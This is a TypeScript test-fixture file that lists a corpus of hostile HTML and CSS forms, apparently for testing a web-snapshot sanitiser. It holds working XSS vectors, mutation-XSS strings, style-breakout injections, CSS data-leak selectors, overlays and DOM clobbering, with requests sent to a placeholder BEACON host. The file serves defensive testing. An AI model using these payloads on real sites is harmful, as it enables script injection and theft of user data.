import { ASSETS, DRAWINGS } from './hostile-drawings.ts';
import { HIT, type HostileForm, inShadow } from './hostile-form.ts';

const SCRIPTS: HostileForm[] = [
  { name: 'script element', html: `<script>${HIT}</script>` },
  { name: 'image error handler', html: `<img src="x" onerror="${HIT}">` },
  { name: 'svg load handler', html: `<svg onload="${HIT}"></svg>` },
  { name: 'script in svg', html: `<svg><script>${HIT}</script></svg>` },
  { name: 'details toggle handler', html: `<details open ontoggle="${HIT}">x</details>` },
  { name: 'focus handler', html: `<input autofocus onfocus="${HIT}">` },
  {
    name: 'animation handler',
    html: `<div style="animation:k 1s" onanimationstart="${HIT}">x</div>`,
    css: '@keyframes k{to{opacity:.5}}',
  },
  {
    name: 'svg animation handler',
    html: `<svg><animate attributeName="x" dur="1s" onbegin="${HIT}"/></svg>`,
  },
  { name: 'media error handler', html: `<video><source onerror="${HIT}" src="x"></video>` },
  { name: 'nested srcdoc', html: `<iframe srcdoc="<script>${HIT}</script>"></iframe>` },
  { name: 'javascript frame', html: `<iframe src="javascript:${HIT}"></iframe>` },
  { name: 'data frame', html: `<iframe src="data:text/html,<script>${HIT}</script>"></iframe>` },
  { name: 'object', html: '<object data="BEACON/object"></object>' },
  { name: 'embed', html: '<embed src="BEACON/embed">' },
  { name: 'javascript link', html: `<a href="javascript:${HIT}">click me</a>` },
  {
    name: 'javascript link in character references',
    html: `<a href="&#x6a;ava&Tab;script&colon;${HIT}">click me</a>`,
  },
  {
    name: 'javascript link in svg',
    html: `<svg><a xlink:href="javascript:${HIT}"><text y="20">click me</text></a></svg>`,
  },
  {
    name: 'animated link',
    html: `<svg><a><animate attributeName="href" values="javascript:${HIT}"/>` +
      '<text y="20">click me</text></a></svg>',
  },
  {
    name: 'javascript image map',
    html: `<map name="m"><area href="javascript:${HIT}" coords="0,0,99,99"></map>` +
      '<img usemap="#m" width="99" height="99">',
  },
  {
    name: 'javascript form',
    html: `<form action="javascript:${HIT}"><button>click me</button></form>`,
  },
  {
    name: 'javascript formaction',
    html: `<form><button formaction="javascript:${HIT}">click me</button></form>`,
  },
  {
    name: 'math mutation',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;` +
      `&lt;img src=x onerror=${HIT}&gt;">`,
  },
  {
    name: 'noscript mutation',
    html: `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  },
  { name: 'template content', html: `<template><img src=x onerror="${HIT}"></template>` },
  { name: 'css closing style with script', css: `</style><script>${HIT}</script>` },
  { name: 'css closing style with image', css: `</style><img src=x onerror="${HIT}">` },
  { name: 'css closing style in a string', css: `a{content:"</style><script>${HIT}</script>"}` },
  { name: 'closing body and html', html: `</body></html><script>${HIT}</script>` },
  {
    name: 'declarative shadow root',
    html: `<div><template shadowrootmode="open"><img src=x onerror="${HIT}"></template></div>`,
  },
  { name: 'xml handler', html: `<x onclick="${HIT}" contenteditable autofocus>x</x>` },
  { name: 'unclosed handler', html: `<img src=x onerror="${HIT}" ` },
  { name: 'handler behind a null', html: `<img src=x on\u0000error="${HIT}" onerror="${HIT}">` },
  { name: 'speculation rules', html: '<script type="speculationrules">{"prefetch":[]}</script>' },
];

const NAVIGATIONS: HostileForm[] = [
  { name: 'refresh', html: '<meta http-equiv="refresh" content="0;url=BEACON/refresh">' },
  {
    name: 'refresh to a script',
    html: `<meta http-equiv="refresh" content="0;url=javascript:${HIT}">`,
  },
  { name: 'link', html: '<a href="BEACON/link">click me</a>' },
  { name: 'link of the top', html: '<a href="BEACON/top" target="_top">click me</a>' },
  { name: 'link of a new tab', html: '<a href="BEACON/blank" target="_blank">click me</a>' },
  { name: 'link to the same page', html: '<a href="#">click me</a>' },
  { name: 'relative link', html: '<a href="/foundation/logo">click me</a>' },
  {
    name: 'form that posts',
    html:
      '<form method="post" action="BEACON/post"><input name="a"><button>click me</button></form>',
  },
  {
    name: 'form of the top',
    html: '<form action="BEACON/form-top" target="_top"><button>click me</button></form>',
  },
  { name: 'button with an action', html: '<button formaction="BEACON/action">click me</button>' },
  { name: 'remote frame', html: '<iframe src="BEACON/frame"></iframe>' },
  { name: 'base address', html: '<base href="BEACON/"><img src="based"><a href="x">click me</a>' },
  { name: 'link in svg', html: '<svg><a href="BEACON/svg"><text y="20">click me</text></a></svg>' },
];

const BEACONS: HostileForm[] = [
  { name: 'image', html: '<img src="BEACON/img">' },
  { name: 'image with a source set', html: '<img srcset="BEACON/srcset 1x">' },
  {
    name: 'picture',
    html: '<picture><source srcset="BEACON/source"><img src="data:,"></picture>',
  },
  { name: 'video poster', html: '<video poster="BEACON/poster" src="BEACON/video"></video>' },
  { name: 'audio', html: '<audio autoplay src="BEACON/audio"></audio>' },
  { name: 'stylesheet', html: '<link rel="stylesheet" href="BEACON/css">' },
  { name: 'preload', html: '<link rel="preload" as="image" href="BEACON/preload">' },
  { name: 'module preload', html: '<link rel="modulepreload" href="BEACON/module">' },
  { name: 'prefetch', html: '<link rel="prefetch" href="BEACON/prefetch">' },
  { name: 'preconnect', html: '<link rel="preconnect" href="BEACON">' },
  { name: 'icon', html: '<link rel="icon" href="BEACON/icon">' },
  { name: 'svg image', html: '<svg><image href="BEACON/svg-image" width="9" height="9"/></svg>' },
  {
    name: 'svg filter image',
    html: '<svg><filter id="f"><feImage href="BEACON/feimage"/></filter>' +
      '<rect width="9" height="9" filter="url(#f)"/></svg>',
  },
  { name: 'svg use', html: '<svg><use href="BEACON/use.svg#a"/></svg>' },
  { name: 'inline background', html: '<div style="background:url(BEACON/inline)">x</div>' },
  { name: 'image button', html: '<input type="image" src="BEACON/image-button">' },
  { name: 'background attribute', html: '<table background="BEACON/background"><tr><td>x</table>' },
  { name: 'link ping', html: '<a href="#x" ping="BEACON/ping">click me</a>' },
  { name: 'loosened policy', html: '<meta http-equiv="Content-Security-Policy" content="">' },
  { name: 'style in the markup', html: '<style>@import "BEACON/style-import";</style>' },
];

const STYLES: HostileForm[] = [
  { name: 'import', css: '@import url(BEACON/import);' },
  {
    name: 'font that leaks letters',
    css: '@font-face{font-family:l;src:url(BEACON/font);unicode-range:U+41}*{font-family:l}',
    html: 'A',
  },
  {
    name: 'field value by selector',
    css: 'input[value^="s"]{background:url(BEACON/field)}',
    html: '<input value="secret">',
  },
  { name: 'list image', css: 'li{list-style-image:url(BEACON/list)}', html: '<ul><li>x</ul>' },
  { name: 'cursor', css: 'body{cursor:url(BEACON/cursor),auto}' },
  { name: 'mask', css: 'body{mask-image:url(BEACON/mask)}' },
  { name: 'border image', css: 'body{border:9px solid;border-image:url(BEACON/border) 1}' },
  { name: 'generated content', css: 'body::before{content:url(BEACON/content)}' },
  { name: 'image set', css: 'body{background:image-set("BEACON/set" 1x)}' },
  { name: 'layer', css: '@layer a{body{background:url(BEACON/layer)}}' },
  { name: 'supports', css: '@supports(color:red){body{background:url(BEACON/supports)}}' },
  { name: 'variable', css: ':root{--u:url(BEACON/variable)}body{background:var(--u)}' },
  { name: 'escaped url', css: 'body{background:u\\72l(BEACON/escaped)}' },
  { name: 'hidden banner', css: '[data-archived-banner]{display:none!important}' },
];

/** Attacks by a capture's own constructs: marks instead of attributes, schemes in style sheets. */
const CAPTURED: HostileForm[] = [
  {
    name: 'attribute stored under another name',
    html:
      `<p data-snapshot-attribute-onclick="${HIT}" data-snapshot-attribute-href="BEACON/mark" ` +
      'data-snapshot-link="BEACON/marked-link">click me</p>',
  },
  {
    name: 'colour scheme that closes the style',
    css: `@media (prefers-color-scheme:</style><img src=x onerror="${HIT}">dark){a{}}` +
      ':root{color-scheme:light dark}</style><img src="BEACON/scheme">',
  },
  {
    name: 'colour scheme in the style of a shadow root',
    html: inShadow(
      '<style>@media (prefers-color-scheme:light){p{background:url(BEACON/scheme-style)}}</style>' +
        `<p>x</p><style>(prefers-color-scheme)</style><img src=x onerror="${HIT}">`,
    ),
  },
  {
    name: 'newlines that a parser drops',
    html:
      `<textarea>\n</textarea><img src=x onerror="${HIT}"><pre>\n\n<img src="BEACON/pre"></pre>` +
      `<svg><textarea>\n<a title="</textarea><img src=x onerror=${HIT}>">x</a></textarea></svg>`,
  },
  {
    name: 'popover that a click opens',
    html: '<button popovertarget="sheet">click me</button><div popover id="sheet" ' +
      `style="width:100vw;height:100vh" ontoggle="${HIT}"><a href="BEACON/popover">click me</a></div>`,
  },
  {
    name: 'marks of an open dialog',
    html: '<dialog open data-snapshot-state="modal" style="position:fixed;inset:0;width:100vw;' +
      'z-index:2147483647;box-shadow:0 0 0 99999px red"><a href="BEACON/modal">log in</a></dialog>',
  },
  {
    name: 'point to scroll to',
    html:
      '<div style="height:9px;overflow:auto;position:relative;scroll-snap-type:both mandatory">' +
      `<span data-snapshot-place style="position:absolute;top:9000px;scroll-snap-align:start" ` +
      `onscrollsnapchange="${HIT}"></span></div>`,
  },
];

const DECEPTIONS: HostileForm[] = [
  {
    name: 'overlay',
    html: '<div style="position:fixed;inset:0;z-index:2147483647;background:red">log in</div>',
  },
  { name: 'full-screen dialog', html: '<dialog open style="width:100vw">log in</dialog>' },
  { name: 'clobbered names', html: '<a id="cfg"></a><img name="body"><p id="main">x</p>' },
  { name: 'huge body', css: 'body{height:33554400px}p{filter:blur(999px)}', html: '<p>x</p>' },
];

const SHADOWS: HostileForm[] = [
  { name: 'link in a shadow root', html: inShadow('<a href="BEACON/shadow-link">click me</a>') },
  {
    name: 'form in a shadow root',
    html: inShadow('<form action="BEACON/shadow-form"><button>click me</button></form>'),
  },
  { name: 'script in a shadow root', html: inShadow(`<script>${HIT}</script>`) },
  { name: 'style in a shadow root', html: inShadow('<style>@import "BEACON/shadow";</style>') },
  {
    name: 'shadow root in a shadow root',
    html: inShadow(inShadow(`<a href="BEACON/deep">click me</a><svg onload="${HIT}"></svg>`)),
  },
  {
    name: 'closing style in a shadow root',
    html: inShadow(`<style>a{content:"</style><img src=x onerror=${HIT}>"}</style>`),
  },
  {
    name: 'template that becomes a shadow root',
    html: `<svg><template shadowrootmode=open><a href="BEACON/svg-shadow">click me</a></template>` +
      `</svg><p><template shadowrootmode="open"></p><a href="BEACON/loose">click me</a>`,
  },
];

/** The corpus: documented attacks through stored html and css. */
export const HOSTILE_FORMS = {
  scripts: SCRIPTS,
  navigations: NAVIGATIONS,
  beacons: BEACONS,
  'styles and deceptions': [...STYLES, ...CAPTURED, ...DECEPTIONS, ...SHADOWS],
  drawings: DRAWINGS,
  assets: ASSETS,
};
